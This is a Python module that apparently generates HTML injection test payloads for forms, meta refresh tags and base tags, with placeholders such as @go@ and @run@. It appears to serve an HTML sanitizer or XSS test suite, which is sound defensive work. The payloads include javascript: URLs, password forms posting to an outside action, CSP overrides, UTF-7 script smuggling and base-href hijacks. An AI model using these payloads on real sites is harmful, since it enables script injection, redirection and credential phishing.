"""Forms, refreshes and bases: what asks for input, sends it, or leads somewhere else."""

from __future__ import annotations

from collections.abc import Iterator

_INPUTS = (
    *("<button>go</button>", "<button type=submit>go</button>", "<input type=submit>", "<input type=image src=@img@>", "<button type=image>go</button>"),
    *("<input><button form=f>go</button>", "<textarea name=x autofocus></textarea><button>go</button>", "<select name=x onchange=this.form.submit()><option>1<option>2</select><button>go</button>"),
)  # fmt: skip


def payloads() -> Iterator[str]:
    for inputs in _INPUTS:
        yield f"<form id=f action=@go@>{inputs}</form>"
        yield f"<form id=f method=post action=@go@>{inputs}</form>"
    for method in (
        "dialog",
        "put",
        "GET",
        "POST enctype=text/plain",
        "post target=_top",
        "post target=_blank",
    ):
        yield f"<form action=@go@ method={method}><input type=password name=p><button>go</button></form>"
    yield "<form id=f></form><button form=f formaction=@go@>go</button>"
    yield "<form id=f></form><input type=submit form=f formaction=@go@ formmethod=post>"
    yield "<form><button formaction=@go@ formtarget=_top>go</button></form>"
    yield "<form action=javascript:@run@><button>go</button></form>"
    yield "<form action='javascript:@run@' method=post><input type=image></form>"
    yield "<form onsubmit=@run@><button>go</button></form>"
    yield "<form><input type=file name=f><button formaction=@go@ formenctype=multipart/form-data>go</button></form>"
    yield "<form action=@go@><details open><summary><button>go</button></summary></details></form>"
    yield "<form action=@go@><a href=#><button>go</button></a></form>"
    yield "<form action=@go@><table><tr><form><td><button>go</button></table>"
    yield "<fieldset form=f><legend onclick=@run@>words</legend></fieldset>"
    yield "<button popovertarget=p popovertargetaction=show>b</button><p popover id=p ontoggle=@run@>words</p>"
    yield "<button command=show-modal commandfor=d>b</button><dialog id=d ontoggle=@run@>words</dialog>"
    yield "<input type=text value='javascript:@run@' onfocus=@run@ autofocus>"
    yield "<input list=l oninput=@run@><datalist id=l><option value=x></datalist>"
    yield "<input type=hidden oncontentvisibilityautostatechange=@run@ style=content-visibility:auto>"
    yield "<keygen name=x form=f><object form=f data=@load@></object>"
    yield "<isindex prompt=password action=@go@>"
    for content in (
        "0;url=@go@", "0; URL='@go@'", "0;@go@", "0,@go@", "0 @go@", "0;url=javascript:@run@", ".0;url=@go@",
        '0;url="@go@"', "0;url=data:text/html,<script>@run@</script>", "\t0\n;\nurl\n=\n@go@", "00000;uRl=@go@",
    ):  # fmt: skip
        yield f"<meta http-equiv=refresh content='{content.replace(chr(39), '&#39;')}'>"
    yield "<META HTTP-EQUIV='Refresh' CONTENT='0;URL=@go@'>"
    yield "<meta http-equiv=&#114;efresh content=0;url=@go@>"
    yield "<meta content=0;url=@go@ http-equiv=refresh>"
    yield "<meta http-equiv=set-cookie content='x=@n@'>"
    yield "<meta http-equiv=content-security-policy content=\"script-src * 'unsafe-inline'\"><script>@run@</script>"
    yield "<meta http-equiv=content-security-policy content=\"img-src 'none'\">"
    yield "<meta http-equiv=default-style content=x><meta http-equiv=x-ua-compatible content=IE=7>"
    yield "<meta name=referrer content=unsafe-url><img src=@img@>"
    yield "<meta charset=utf-7>+ADw-script+AD4-@run@+ADw-/script+AD4-"
    yield "<noscript><meta http-equiv=refresh content='0;url=@go@'></noscript>"
    yield "<svg><meta http-equiv=refresh content='0;url=@go@'></svg>"
    yield "<base href=@go@/><a href=x>words</a><form><button>go</button></form>"
    yield "<base href=javascript:/><a href='@run@'>words</a>"
    yield "<base href='javascript:\\'><a href='//%0a@run@//'>words</a>"
    yield "<base target=_blank><a href=@go@>words</a>"
    yield "<BASE HREF='@load@/'><link rel=stylesheet href=x>"
    yield "<base href=data:text/html,><a href='<script>@run@</script>'>words</a>"
    yield "<svg><base href=@load@/></svg><link rel=stylesheet href=x>"
